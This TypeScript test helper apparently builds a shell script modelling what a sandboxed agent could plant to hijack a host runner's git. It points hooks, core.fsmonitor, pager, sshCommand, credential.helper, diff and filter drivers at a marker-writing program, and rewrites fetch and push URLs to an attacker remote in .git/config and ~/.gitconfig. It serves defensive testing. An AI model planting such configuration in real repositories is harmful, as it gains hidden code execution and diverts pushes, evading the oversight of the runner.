// What an agent can plant for the runner's git: a shell script, run in the checkout (as the agent's
// Bash tool would), that points every configurable command of .git/config, ~/.gitconfig, hooks and
// .gitattributes at a program appending to a marker file, and redirects fetch and push to another remote.
const HOOKS = [
  'pre-commit',
  'prepare-commit-msg',
  'commit-msg',
  'post-commit',
  'pre-push',
  'post-checkout',
  'post-merge',
  'reference-transaction',
  'post-index-change',
  'pre-auto-gc',
  'fsmonitor-watchman',
  'push-to-checkout',
];

export function hostileGitScript(options: { marker: string; realUrl: string; evilUrl: string }): string {
  const { marker, realUrl, evilUrl } = options;
  const config = `[core]
\tfsmonitor = $evil
\thooksPath = $hooks
\tpager = $evil
\tsshCommand = $evil
\taskPass = $evil
\teditor = $evil
[diff]
\texternal = $evil
[diff "evil"]
\ttextconv = $evil
\tcommand = $evil
[filter "evil"]
\tclean = $evil
\tsmudge = $evil
[url "${evilUrl}"]
\tinsteadOf = ${realUrl}
\tpushInsteadOf = ${realUrl}
[remote "origin"]
\tpushurl = ${evilUrl}
[credential]
\thelper = !$evil
[protocol]
\tallow = always
`;
  return [
    'set -e',
    'evil="$(dirname "$PWD")/evil.sh"',
    'hooks="$(dirname "$PWD")/evil-hooks"',
    `printf '#!/bin/sh\\necho "$0 $*" >> ${marker}\\ncat >/dev/null 2>&1 || true\\n' > "$evil"`,
    'chmod +x "$evil"',
    'mkdir -p "$hooks" .git/hooks "$HOME"',
    `for h in ${HOOKS.join(' ')}; do cp "$evil" "$hooks/$h"; cp "$evil" ".git/hooks/$h"; done`,
    `cat >> .git/config <<EOF\n${config}EOF`,
    `cat >> "$HOME/.gitconfig" <<EOF\n${config}EOF`,
    "printf '* filter=evil diff=evil\\n' > .gitattributes",
  ].join('\n');
}
